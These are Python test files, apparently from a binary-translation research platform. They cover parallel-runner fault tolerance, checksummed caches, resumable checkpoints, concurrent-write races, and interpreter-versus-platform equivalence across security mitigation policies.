                                             **kwargs))


# ---------------------------------------------------------------------------
# Worker crash / hang / fallback.
# ---------------------------------------------------------------------------

def test_worker_crash_detected_and_retried(workloads, baseline):
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, jobs=2, retries=2, backoff=0.05,
                 telemetry=telemetry,
                 worker_faults={0: WorkerFault("crash")})
    assert telemetry.crashes >= 1
    assert telemetry.retries >= 1
    assert rows == baseline


def test_worker_hang_reaped_on_timeout(workloads, baseline):
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, jobs=2, timeout=6.0, retries=2, backoff=0.05,
                 telemetry=telemetry,
                 worker_faults={0: WorkerFault("hang", seconds=60.0)})
    assert telemetry.timeouts >= 1
    assert rows == baseline


def test_serial_fallback_heals_exhausted_pool(workloads, baseline):
    """retries=0: the only pool attempt eats the crash, then the serial
    in-process fallback (which never applies faults) finishes the job."""
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, jobs=2, retries=0, telemetry=telemetry,
                 worker_faults={0: WorkerFault("crash")})
    assert telemetry.crashes >= 1
    assert telemetry.serial_fallbacks == 1
    assert rows == baseline


def test_terminal_failure_raises_with_table(workloads):
    """With retries and the fallback both disabled, a crashed point is
    terminal: ParallelRunError carries the failure row and the partial
    results instead of an opaque BrokenProcessPool."""
    telemetry = RunnerTelemetry()
    with pytest.raises(ParallelRunError) as excinfo:
        run_points(
            run_sweep_point,
            [(program, policy, None, None, None, None, None)
             for _, program in workloads for policy in POLICIES],
            labels=["atax/%s" % policy.value for policy in POLICIES],
            jobs=2, retries=0, serial_fallback=False,
            telemetry=telemetry,
            worker_faults={0: WorkerFault("crash")},
        )
    error = excinfo.value
    assert error.failures
    assert error.failures[0].kind == "crash"
    assert len(error.partial) == len(POLICIES)
    table = failure_table(error.failures)
    assert "crash" in table and "atax/" in table


def test_worker_faults_ignored_in_serial_mode(workloads, baseline):
    """jobs=1 never applies faults — a crash fault would take down the
    test process itself."""
    rows = _rows(workloads, jobs=1,
                 worker_faults={0: WorkerFault("crash")})
    assert rows == baseline


def test_failure_table_formatting():
    table = failure_table([
        PointFailure(0, "gemm/unsafe", "timeout", "no result within 5s", 3),
        PointFailure(2, "atax/fence", "error", "ValueError: boom", 1),
    ])
    lines = table.splitlines()
    assert len(lines) == 4
    assert "gemm/unsafe" in lines[2] and "timeout" in lines[2]
    assert "atax/fence" in lines[3] and "ValueError" in lines[3]


# ---------------------------------------------------------------------------
# Checksummed memo cache.
# ---------------------------------------------------------------------------

def test_corrupt_record_quarantined_and_recomputed(tmp_path, workloads,
                                                   baseline):
    _rows(workloads, cache_dir=tmp_path)
    entries = sorted(tmp_path.glob("*.json"))
    assert entries
    # Valid JSON, valid fields, wrong checksum: only the checksum layer
    # can catch this.
    envelope = json.loads(entries[0].read_text())
    envelope["record"]["cycles"] += 1
    entries[0].write_text(json.dumps(envelope))
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, cache_dir=tmp_path, telemetry=telemetry)
    assert telemetry.quarantined_cache_files == 1
    assert rows == baseline
    quarantined = list((tmp_path / "quarantine").glob("*.json"))
    assert len(quarantined) == 1
    assert quarantined[0].name == entries[0].name


def test_legacy_unchecksummed_record_rejected(tmp_path, workloads, baseline):
    _rows(workloads, cache_dir=tmp_path)
    target = sorted(tmp_path.glob("*.json"))[0]
    envelope = json.loads(target.read_text())
    target.write_text(json.dumps(envelope["record"]))  # v1-style bare record
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, cache_dir=tmp_path, telemetry=telemetry)
    assert telemetry.quarantined_cache_files == 1
    assert rows == baseline


# ---------------------------------------------------------------------------
# Resumable checkpoints.
# ---------------------------------------------------------------------------

def test_checkpoint_round_trip(tmp_path):
    path = tmp_path / "ckpt.jsonl"
    record = {"exit_code": 0, "cycles": 1, "instructions": 2,
              "blocks_executed": 3, "rollbacks": 0}
    checkpoint_append(path, "abc", record)
    checkpoint_append(path, "def", record)
    with open(path, "a") as handle:
        handle.write('{"key": "torn-li')  # killed mid-write
    loaded = checkpoint_load(path)
    assert set(loaded) == {"abc", "def"}
    assert loaded["abc"] == record


def test_checkpoint_load_missing_file(tmp_path):
    assert checkpoint_load(tmp_path / "nope.jsonl") == {}


def test_checkpoint_compacts_on_load(tmp_path):
    """Checkpoints are append-only, so retried runs re-append the same
    points and the file grows without bound; loading must rewrite it
    down to the surviving last-record-per-point set."""
    path = tmp_path / "ckpt.jsonl"
    stale = {"exit_code": 0, "cycles": 1, "instructions": 2,
             "blocks_executed": 3, "rollbacks": 0}
    fresh = dict(stale, cycles=2)
    for round_number in range(5):  # five retried runs of the same sweep
        checkpoint_append(path, "abc", stale)
        checkpoint_append(path, "def", fresh if round_number == 4 else stale)
    with open(path, "a") as handle:
        handle.write('{"key": "torn')  # plus a kill mid-append
    assert len(path.read_text().splitlines()) == 11

    loaded = checkpoint_load(path)
    assert loaded == {"abc": stale, "def": fresh}  # last record wins
    # The file itself was compacted (atomically) to one line per point …
    assert len(path.read_text().splitlines()) == 2
    # … and reloading a compact file does not rewrite it again.
    mtime = path.stat().st_mtime_ns
    assert checkpoint_load(path) == loaded
    assert path.stat().st_mtime_ns == mtime


def test_checkpoint_compaction_can_be_disabled(tmp_path):
    path = tmp_path / "ckpt.jsonl"
    first = {"exit_code": 0, "cycles": 1, "instructions": 2,
             "blocks_executed": 3, "rollbacks": 0}
    second = dict(first, cycles=2)
    checkpoint_append(path, "abc", first)
    checkpoint_append(path, "abc", second)
    assert checkpoint_load(path, compact=False) == {"abc": second}
    assert len(path.read_text().splitlines()) == 2  # untouched


def test_resume_skips_completed_points(tmp_path, workloads, baseline,
                                       monkeypatch):
    path = tmp_path / "ckpt.jsonl"
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry)
    assert rows == baseline
    assert telemetry.checkpoint_hits == 0
    assert len(checkpoint_load(path)) == len(POLICIES)

    # Drop the last completed point — a "killed just before the end" run.
    lines = path.read_text().splitlines()
    path.write_text("\n".join(lines[:-1]) + "\n")

    calls = []
    real = parallel.run_sweep_point

    def counting(*args, **kwargs):
        calls.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(parallel, "run_sweep_point", counting)
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry)
    assert rows == baseline
    assert telemetry.checkpoint_hits == len(POLICIES) - 1
    assert len(calls) == 1  # only the dropped point was re-simulated
    assert len(checkpoint_load(path)) == len(POLICIES)  # healed


_KILL_SCRIPT = """
import sys
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.parallel import sweep_comparisons

workloads = [(name, build_kernel_program(SMALL_SIZES[name]()))
             for name in ("atax", "gemm")]
sweep_comparisons(workloads, checkpoint=sys.argv[1])
"""


def test_kill_and_resume_sweep(tmp_path, workloads, baseline):
    """SIGKILL a sweep mid-run; the next run resumes from the
    checkpoint and produces byte-identical rows."""
    path = tmp_path / "ckpt.jsonl"
    env = dict(os.environ)
    env["PYTHONPATH"] = str(Path(parallel.__file__).parents[2])
    child = subprocess.Popen([sys.executable, "-c", _KILL_SCRIPT, str(path)],
                             env=env, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 60
        while time.time() < deadline and child.poll() is None:
            if path.exists() and len(checkpoint_load(path)) >= 1:
                break
            time.sleep(0.01)
        if child.poll() is None:
            child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
    completed = checkpoint_load(path)
    assert completed  # the child got at least one point down

    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry)
    assert telemetry.checkpoint_hits >= 1
    assert rows == baseline


_KILL_SCRIPT_CHAINED = """
import sys
from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.parallel import sweep_comparisons

workloads = [(name, build_kernel_program(SMALL_SIZES[name]()))
             for name in ("atax", "gemm")]
sweep_comparisons(workloads, checkpoint=sys.argv[1],
                  engine_config=DbtEngineConfig(chain=True))
"""


def test_kill_and_resume_sweep_chained(tmp_path, workloads, baseline):
    """Same SIGKILL-and-resume scenario with block chaining enabled:
    the resumed chained sweep must produce rows byte-identical to the
    *unchained* baseline — chaining changes host dispatch, never a
    simulated observable, and checkpointed points survive the kill."""
    from repro.dbt.engine import DbtEngineConfig

    path = tmp_path / "ckpt.jsonl"
    env = dict(os.environ)
    env["PYTHONPATH"] = str(Path(parallel.__file__).parents[2])
    child = subprocess.Popen(
        [sys.executable, "-c", _KILL_SCRIPT_CHAINED, str(path)],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 60
        while time.time() < deadline and child.poll() is None:
            if path.exists() and len(checkpoint_load(path)) >= 1:
                break
            time.sleep(0.01)
        if child.poll() is None:
            child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
    completed = checkpoint_load(path)
    assert completed  # the child got at least one point down

    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry,
                 engine_config=DbtEngineConfig(chain=True))
    assert telemetry.checkpoint_hits >= 1
    assert rows == baseline


# ---------------------------------------------------------------------------
# run_points argument validation.
# ---------------------------------------------------------------------------

def test_run_points_rejects_bad_jobs():
    with pytest.raises(ValueError):
        run_points(run_sweep_point, [], jobs=0)


def test_checkpoint_key_matches_sweep_key(tmp_path, workloads):
    """Checkpoint entries are keyed by the same content hash as the memo
    cache, so a checkpoint survives unrelated grid reordering."""
    path = tmp_path / "ckpt.jsonl"
    _rows(workloads, checkpoint=path)
    name, program = workloads[0]
    keys = {sweep_point_key(program, policy) for policy in POLICIES}
    assert set(checkpoint_load(path)) == keys


# ---------------------------------------------------------------------------
# Shared-cache write races: every concurrent store must publish through a
# writer-unique, fsynced temp file.  Regression tests for the fixed-temp-
# name races in _cache_store, compact_jsonl and PersistentCodegenCache
# (two writers used to interleave into one temp file and rename a torn
# record into place — or crash on the rename when the other writer's
# os.replace consumed the shared temp first).
# ---------------------------------------------------------------------------

import multiprocessing

#: Iterations per storm writer: enough overlapping write+rename windows
#: that the old fixed-temp-name code reliably trips (torn publish or
#: ENOENT on the shared temp) while the fixed code is race-free by
#: construction, not by luck.
_STORM_ITERATIONS = 60


def _memo_storm_child(cache_dir, barrier, writer):
    """Storm one memo-cache key; exit 1 on store/load crash, 2 on a
    quarantined (torn) record."""
    record = {"exit_code": 0, "cycles": writer, "instructions": writer,
              "blocks_executed": writer, "rollbacks": 0,
              "output": "", "pad": "x" * 400_000}
    telemetry = RunnerTelemetry()
    barrier.wait()
    try:
        for _ in range(_STORM_ITERATIONS):
            parallel._cache_store(Path(cache_dir), "sharedkey", record)
            parallel._cache_load(Path(cache_dir), "sharedkey", telemetry)
    except BaseException:
        os._exit(1)
    if telemetry.quarantined_cache_files:
        os._exit(2)
    os._exit(0)


def _compact_storm_child(path, barrier, writer):
    """Storm one compaction target; exit 1 on a crash (shared-temp
    rename race)."""
    records = [{"key": "k%03d" % j,
                "record": {"writer": writer, "pad": "y" * 2_000}}
               for j in range(150)]
    barrier.wait()
    try:
        for _ in range(_STORM_ITERATIONS):
            parallel.compact_jsonl(path, records)
    except BaseException:
        os._exit(1)
    os._exit(0)


def _tcache_storm_child(tcache_dir, barrier, writer):
    """Storm one persistent-codegen key; exit 2 when a reader observes a
    torn (quarantined) envelope.  store() swallows OSError by contract,
    so the quarantine check is the detector."""
    from repro.dbt.translation_cache import PersistentCodegenCache

    code = compile(repr(tuple(range(60_000 + writer))), "<storm>", "eval")
    barrier.wait()
    for _ in range(_STORM_ITERATIONS):
        PersistentCodegenCache(tcache_dir).store("sharedkey", code,
                                                 source_bytes=1)
        reader = PersistentCodegenCache(tcache_dir)
        reader.load("sharedkey")
        if reader.quarantined:
            os._exit(2)
    os._exit(0)


def _run_storm(target, args):
    context = multiprocessing.get_context("fork")
    barrier = context.Barrier(2)
    children = [context.Process(target=target, args=args + (barrier, writer))
                for writer in (1, 2)]
    for child in children:
        child.start()
    for child in children:
        child.join(timeout=120)
    codes = [child.exitcode for child in children]
    assert codes == [0, 0], (
        "storm writers failed (1=crash, 2=torn record quarantined): %r"
        % (codes,))


def test_cache_store_two_process_collision(tmp_path):
    """Two processes storing the same memo key concurrently never
    publish a torn envelope and never crash on a shared temp file."""
    cache_dir = tmp_path / "cache"
    cache_dir.mkdir()
    _run_storm(_memo_storm_child, (str(cache_dir),))
    # The surviving record is one writer's complete envelope, and
    # nothing was quarantined along the way.
    telemetry = RunnerTelemetry()
    record = parallel._cache_load(cache_dir, "sharedkey", telemetry)
    assert record is not None
    assert telemetry.quarantined_cache_files == 0
    quarantine = cache_dir / "quarantine"
    assert not quarantine.exists() or not any(quarantine.iterdir())


def test_compact_jsonl_concurrent_compaction(tmp_path):
    """Two concurrent compactions of one checkpoint path leave exactly
    one writer's complete record set — never an interleaved mix."""
    path = tmp_path / "ckpt.jsonl"
    _run_storm(_compact_storm_child, (str(path),))
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert len(lines) == 150
    writers = {line["record"]["writer"] for line in lines}
    assert len(writers) == 1, "compacted file mixes writers: %r" % writers
    assert {line["key"] for line in lines} == {"k%03d" % j
                                               for j in range(150)}
    assert not list(tmp_path.glob("*.compact"))


def test_tcache_store_two_process_collision(tmp_path):
    """Two processes persisting the same codegen key concurrently never
    publish a torn envelope (parallel sweep workers share --tcache-dir
    by design)."""
    from repro.dbt.translation_cache import PersistentCodegenCache

    tcache_dir = tmp_path / "tcache"
    _run_storm(_tcache_storm_child, (str(tcache_dir),))
    reader = PersistentCodegenCache(tcache_dir)
    assert reader.load("sharedkey") is not None
    assert reader.quarantined == 0


def test_atomic_writes_use_unique_fsynced_tmp(tmp_path, monkeypatch):
    """Pin the mechanism: every publish goes through a pid+counter temp
    name (no two calls share one) and fsyncs before os.replace."""
    import repro.ioatomic as ioatomic

    replaced = []
    synced = []
    real_replace = os.replace
    monkeypatch.setattr(ioatomic.os, "replace",
                        lambda src, dst: (replaced.append(str(src)),
                                          real_replace(src, dst)))
    monkeypatch.setattr(ioatomic.os, "fsync",
                        lambda fd: synced.append(fd))

    record = {"exit_code": 0, "cycles": 1, "instructions": 1,
              "blocks_executed": 1, "rollbacks": 0, "output": ""}
    parallel._cache_store(tmp_path, "key", record)
    parallel._cache_store(tmp_path, "key", record)
    parallel.compact_jsonl(tmp_path / "ckpt.jsonl", [{"key": "k"}])
    assert len(replaced) == 3
    assert len(set(replaced)) == 3, "temp names must be writer-unique"
    pid_tag = ".%d." % os.getpid()
    assert all(pid_tag in name and name.endswith(".tmp")
               for name in replaced)
    assert len(synced) == 3, "every publish must fsync before replace"
