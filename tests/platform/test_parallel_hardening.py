"""Hardened parallel runner: crashes, hangs, fallbacks, checksums,
checkpoints — every failure mode injected and survived.

The expensive scenarios (real worker pools) share one small grid:
one kernel × two policies, so each pool pass simulates two points.
"""

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import repro.platform.parallel as parallel
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.comparison import comparison_json
from repro.platform.parallel import (
    ParallelRunError,
    PointFailure,
    RunnerTelemetry,
    checkpoint_append,
    checkpoint_load,
    failure_table,
    run_points,
    run_sweep_point,
    sweep_comparisons,
    sweep_point_key,
)
from repro.resilience.faults import WorkerFault
from repro.security.policy import MitigationPolicy

POLICIES = (MitigationPolicy.UNSAFE, MitigationPolicy.GHOSTBUSTERS)


@pytest.fixture(scope="module")
def workloads():
    return [("atax", build_kernel_program(SMALL_SIZES["atax"]()))]


@pytest.fixture(scope="module")
def baseline(workloads):
    return comparison_json(sweep_comparisons(workloads, policies=POLICIES))


def _rows(workloads, **kwargs):
    return comparison_json(sweep_comparisons(workloads, policies=POLICIES,
                                             **kwargs))


# ---------------------------------------------------------------------------
# Worker crash / hang / fallback.
# ---------------------------------------------------------------------------

def test_worker_crash_detected_and_retried(workloads, baseline):
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, jobs=2, retries=2, backoff=0.05,
                 telemetry=telemetry,
                 worker_faults={0: WorkerFault("crash")})
    assert telemetry.crashes >= 1
    assert telemetry.retries >= 1
    assert rows == baseline


def test_worker_hang_reaped_on_timeout(workloads, baseline):
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, jobs=2, timeout=6.0, retries=2, backoff=0.05,
                 telemetry=telemetry,
                 worker_faults={0: WorkerFault("hang", seconds=60.0)})
    assert telemetry.timeouts >= 1
    assert rows == baseline


def test_serial_fallback_heals_exhausted_pool(workloads, baseline):
    """retries=0: the only pool attempt eats the crash, then the serial
    in-process fallback (which never applies faults) finishes the job."""
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, jobs=2, retries=0, telemetry=telemetry,
                 worker_faults={0: WorkerFault("crash")})
    assert telemetry.crashes >= 1
    assert telemetry.serial_fallbacks == 1
    assert rows == baseline


def test_terminal_failure_raises_with_table(workloads):
    """With retries and the fallback both disabled, a crashed point is
    terminal: ParallelRunError carries the failure row and the partial
    results instead of an opaque BrokenProcessPool."""
    telemetry = RunnerTelemetry()
    with pytest.raises(ParallelRunError) as excinfo:
        run_points(
            run_sweep_point,
            [(program, policy, None, None, None, None, None)
             for _, program in workloads for policy in POLICIES],
            labels=["atax/%s" % policy.value for policy in POLICIES],
            jobs=2, retries=0, serial_fallback=False,
            telemetry=telemetry,
            worker_faults={0: WorkerFault("crash")},
        )
    error = excinfo.value
    assert error.failures
    assert error.failures[0].kind == "crash"
    assert len(error.partial) == len(POLICIES)
    table = failure_table(error.failures)
    assert "crash" in table and "atax/" in table


def test_worker_faults_ignored_in_serial_mode(workloads, baseline):
    """jobs=1 never applies faults — a crash fault would take down the
    test process itself."""
    rows = _rows(workloads, jobs=1,
                 worker_faults={0: WorkerFault("crash")})
    assert rows == baseline


def test_failure_table_formatting():
    table = failure_table([
        PointFailure(0, "gemm/unsafe", "timeout", "no result within 5s", 3),
        PointFailure(2, "atax/fence", "error", "ValueError: boom", 1),
    ])
    lines = table.splitlines()
    assert len(lines) == 4
    assert "gemm/unsafe" in lines[2] and "timeout" in lines[2]
    assert "atax/fence" in lines[3] and "ValueError" in lines[3]


# ---------------------------------------------------------------------------
# Checksummed memo cache.
# ---------------------------------------------------------------------------

def test_corrupt_record_quarantined_and_recomputed(tmp_path, workloads,
                                                   baseline):
    _rows(workloads, cache_dir=tmp_path)
    entries = sorted(tmp_path.glob("*.json"))
    assert entries
    # Valid JSON, valid fields, wrong checksum: only the checksum layer
    # can catch this.
    envelope = json.loads(entries[0].read_text())
    envelope["record"]["cycles"] += 1
    entries[0].write_text(json.dumps(envelope))
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, cache_dir=tmp_path, telemetry=telemetry)
    assert telemetry.quarantined_cache_files == 1
    assert rows == baseline
    quarantined = list((tmp_path / "quarantine").glob("*.json"))
    assert len(quarantined) == 1
    assert quarantined[0].name == entries[0].name


def test_legacy_unchecksummed_record_rejected(tmp_path, workloads, baseline):
    _rows(workloads, cache_dir=tmp_path)
    target = sorted(tmp_path.glob("*.json"))[0]
    envelope = json.loads(target.read_text())
    target.write_text(json.dumps(envelope["record"]))  # v1-style bare record
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, cache_dir=tmp_path, telemetry=telemetry)
    assert telemetry.quarantined_cache_files == 1
    assert rows == baseline


# ---------------------------------------------------------------------------
# Resumable checkpoints.
# ---------------------------------------------------------------------------

def test_checkpoint_round_trip(tmp_path):
    path = tmp_path / "ckpt.jsonl"
    record = {"exit_code": 0, "cycles": 1, "instructions": 2,
              "blocks_executed": 3, "rollbacks": 0}
    checkpoint_append(path, "abc", record)
    checkpoint_append(path, "def", record)
    with open(path, "a") as handle:
        handle.write('{"key": "torn-li')  # killed mid-write
    loaded = checkpoint_load(path)
    assert set(loaded) == {"abc", "def"}
    assert loaded["abc"] == record


def test_checkpoint_load_missing_file(tmp_path):
    assert checkpoint_load(tmp_path / "nope.jsonl") == {}


def test_checkpoint_compacts_on_load(tmp_path):
    """Checkpoints are append-only, so retried runs re-append the same
    points and the file grows without bound; loading must rewrite it
    down to the surviving last-record-per-point set."""
    path = tmp_path / "ckpt.jsonl"
    stale = {"exit_code": 0, "cycles": 1, "instructions": 2,
             "blocks_executed": 3, "rollbacks": 0}
    fresh = dict(stale, cycles=2)
    for round_number in range(5):  # five retried runs of the same sweep
        checkpoint_append(path, "abc", stale)
        checkpoint_append(path, "def", fresh if round_number == 4 else stale)
    with open(path, "a") as handle:
        handle.write('{"key": "torn')  # plus a kill mid-append
    assert len(path.read_text().splitlines()) == 11

    loaded = checkpoint_load(path)
    assert loaded == {"abc": stale, "def": fresh}  # last record wins
    # The file itself was compacted (atomically) to one line per point …
    assert len(path.read_text().splitlines()) == 2
    # … and reloading a compact file does not rewrite it again.
    mtime = path.stat().st_mtime_ns
    assert checkpoint_load(path) == loaded
    assert path.stat().st_mtime_ns == mtime


def test_checkpoint_compaction_can_be_disabled(tmp_path):
    path = tmp_path / "ckpt.jsonl"
    first = {"exit_code": 0, "cycles": 1, "instructions": 2,
             "blocks_executed": 3, "rollbacks": 0}
    second = dict(first, cycles=2)
    checkpoint_append(path, "abc", first)
    checkpoint_append(path, "abc", second)
    assert checkpoint_load(path, compact=False) == {"abc": second}
    assert len(path.read_text().splitlines()) == 2  # untouched


def test_resume_skips_completed_points(tmp_path, workloads, baseline,
                                       monkeypatch):
    path = tmp_path / "ckpt.jsonl"
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry)
    assert rows == baseline
    assert telemetry.checkpoint_hits == 0
    assert len(checkpoint_load(path)) == len(POLICIES)

    # Drop the last completed point — a "killed just before the end" run.
    lines = path.read_text().splitlines()
    path.write_text("\n".join(lines[:-1]) + "\n")

    calls = []
    real = parallel.run_sweep_point

    def counting(*args, **kwargs):
        calls.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(parallel, "run_sweep_point", counting)
    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry)
    assert rows == baseline
    assert telemetry.checkpoint_hits == len(POLICIES) - 1
    assert len(calls) == 1  # only the dropped point was re-simulated
    assert len(checkpoint_load(path)) == len(POLICIES)  # healed


_KILL_SCRIPT = """
import sys
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.parallel import sweep_comparisons

workloads = [(name, build_kernel_program(SMALL_SIZES[name]()))
             for name in ("atax", "gemm")]
sweep_comparisons(workloads, checkpoint=sys.argv[1])
"""


def test_kill_and_resume_sweep(tmp_path, workloads, baseline):
    """SIGKILL a sweep mid-run; the next run resumes from the
    checkpoint and produces byte-identical rows."""
    path = tmp_path / "ckpt.jsonl"
    env = dict(os.environ)
    env["PYTHONPATH"] = str(Path(parallel.__file__).parents[2])
    child = subprocess.Popen([sys.executable, "-c", _KILL_SCRIPT, str(path)],
                             env=env, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 60
        while time.time() < deadline and child.poll() is None:
            if path.exists() and len(checkpoint_load(path)) >= 1:
                break
            time.sleep(0.01)
        if child.poll() is None:
            child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
    completed = checkpoint_load(path)
    assert completed  # the child got at least one point down

    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry)
    assert telemetry.checkpoint_hits >= 1
    assert rows == baseline


_KILL_SCRIPT_CHAINED = """
import sys
from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.parallel import sweep_comparisons

workloads = [(name, build_kernel_program(SMALL_SIZES[name]()))
             for name in ("atax", "gemm")]
sweep_comparisons(workloads, checkpoint=sys.argv[1],
                  engine_config=DbtEngineConfig(chain=True))
"""


def test_kill_and_resume_sweep_chained(tmp_path, workloads, baseline):
    """Same SIGKILL-and-resume scenario with block chaining enabled:
    the resumed chained sweep must produce rows byte-identical to the
    *unchained* baseline — chaining changes host dispatch, never a
    simulated observable, and checkpointed points survive the kill."""
    from repro.dbt.engine import DbtEngineConfig

    path = tmp_path / "ckpt.jsonl"
    env = dict(os.environ)
    env["PYTHONPATH"] = str(Path(parallel.__file__).parents[2])
    child = subprocess.Popen(
        [sys.executable, "-c", _KILL_SCRIPT_CHAINED, str(path)],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 60
        while time.time() < deadline and child.poll() is None:
            if path.exists() and len(checkpoint_load(path)) >= 1:
                break
            time.sleep(0.01)
        if child.poll() is None:
            child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
    completed = checkpoint_load(path)
    assert completed  # the child got at least one point down

    telemetry = RunnerTelemetry()
    rows = _rows(workloads, checkpoint=path, telemetry=telemetry,
                 engine_config=DbtEngineConfig(chain=True))
    assert telemetry.checkpoint_hits >= 1
    assert rows == baseline


# ---------------------------------------------------------------------------
# run_points argument validation.
# ---------------------------------------------------------------------------

def test_run_points_rejects_bad_jobs():
    with pytest.raises(ValueError):
        run_points(run_sweep_point, [], jobs=0)


def test_checkpoint_key_matches_sweep_key(tmp_path, workloads):
    """Checkpoint entries are keyed by the same content hash as the memo
    cache, so a checkpoint survives unrelated grid reordering."""
    path = tmp_path / "ckpt.jsonl"
    _rows(workloads, checkpoint=path)
    name, program = workloads[0]
    keys = {sweep_point_key(program, policy) for policy in POLICIES}
    assert set(checkpoint_load(path)) == keys
