"""Property test: random guest programs behave identically on the
reference interpreter and the DBT platform under every policy.

This is the repository's strongest end-to-end invariant: whatever the DBT
engine does — superblocks, unrolling, hidden-register renaming,
MCB-speculative loads, rollbacks, mitigations — the architectural results
must match the functional model exactly.
"""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.isa.assembler import assemble
from repro.interp.executor import Interpreter
from repro.dbt.engine import DbtEngineConfig
from repro.platform.system import DbtSystem
from repro.security.policy import ALL_POLICIES

#: Registers random bodies may use freely.
_POOL = ("t0", "t1", "t2", "t3", "t4", "t5", "s1", "s2", "s3", "s4")

_REG = st.sampled_from(_POOL)
_OFFSET = st.integers(0, 15).map(lambda i: i * 8)


@st.composite
def _body_line(draw):
    kind = draw(st.sampled_from(
        ["alu", "alu", "alu", "alui", "load", "store", "mulsh", "div"]
    ))
    if kind == "alu":
        op = draw(st.sampled_from(["add", "sub", "xor", "or", "and"]))
        return "    %s %s, %s, %s" % (op, draw(_REG), draw(_REG), draw(_REG))
    if kind == "alui":
        op = draw(st.sampled_from(["addi", "xori", "andi", "ori"]))
        return "    %s %s, %s, %d" % (
            op, draw(_REG), draw(_REG), draw(st.integers(-128, 127)),
        )
    if kind == "mulsh":
        op = draw(st.sampled_from(["mul", "sll", "srl", "sra"]))
        rhs = draw(_REG)
        line = "    %s %s, %s, %s" % (op, draw(_REG), draw(_REG), rhs)
        if op in ("sll", "srl", "sra"):
            # Bound shift amounts so results stay interesting.
            return "    andi %s, %s, 31\n%s" % (rhs, rhs, line)
        return line
    if kind == "div":
        op = draw(st.sampled_from(["divu", "remu"]))
        return "    %s %s, %s, %s" % (op, draw(_REG), draw(_REG), draw(_REG))
    if kind == "load":
        width = draw(st.sampled_from(["ld", "lw", "lbu", "lhu"]))
        return "    %s %s, %d(s0)" % (width, draw(_REG), draw(_OFFSET))
    width = draw(st.sampled_from(["sd", "sw", "sb"]))
    return "    %s %s, %d(s0)" % (width, draw(_REG), draw(_OFFSET))


@st.composite
def random_programs(draw):
    body = draw(st.lists(_body_line(), min_size=4, max_size=24))
    seeds = draw(st.lists(st.integers(0, 255), min_size=len(_POOL),
                          max_size=len(_POOL)))
    init = "\n".join(
        "    li %s, %d" % (reg, seed) for reg, seed in zip(_POOL, seeds)
    )
    data = draw(st.lists(st.integers(0, (1 << 64) - 1), min_size=16, max_size=16))
    data_words = "\n".join("    .dword %d" % value for value in data)
    # The body runs inside a counted loop so the blocks get hot, are
    # rebuilt as unrolled superblocks, and execute both cold and hot.
    return """
_start:
    la s0, data
%s
    li s5, 0
loop:
%s
    addi s5, s5, 1
    li s6, 24
    blt s5, s6, loop
    xor a0, t0, t1
    xor a0, a0, t2
    xor a0, a0, t3
    xor a0, a0, s1
    xor a0, a0, s2
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
data:
%s
""" % (init, "\n".join(body), data_words)


@given(random_programs())
@settings(max_examples=20, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
def test_interpreter_platform_equivalence(source):
    program = assemble(source)
    reference = Interpreter(program)
    ref_result = reference.run()
    data_base = program.data_base
    size = max(len(program.data), 16 * 8)
    expected_image = reference.memory.load_bytes(data_base, size)
    for policy in ALL_POLICIES:
        system = DbtSystem(
            program, policy=policy,
            engine_config=DbtEngineConfig(hot_threshold=6),
        )
        result = system.run()
        assert result.exit_code == ref_result.exit_code, policy
        # The data segment must match byte-for-byte as well.
        assert (
            system.memory.memory.load_bytes(data_base, size) == expected_image
        ), policy
