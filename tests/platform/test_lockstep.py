"""Lockstep differential-execution tests, including fault injection."""

import pytest

from repro.isa.assembler import assemble
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.lockstep import lockstep_run
from repro.security.policy import ALL_POLICIES

PROGRAM = """
_start:
    li a0, 0
    li t0, 0
    li t1, 50
    la t2, data
head:
    andi t3, t0, 15
    slli t3, t3, 3
    add t3, t2, t3
    ld t4, 0(t3)
    add a0, a0, t4
    sd a0, 128(t3)
    addi t0, t0, 1
    blt t0, t1, head
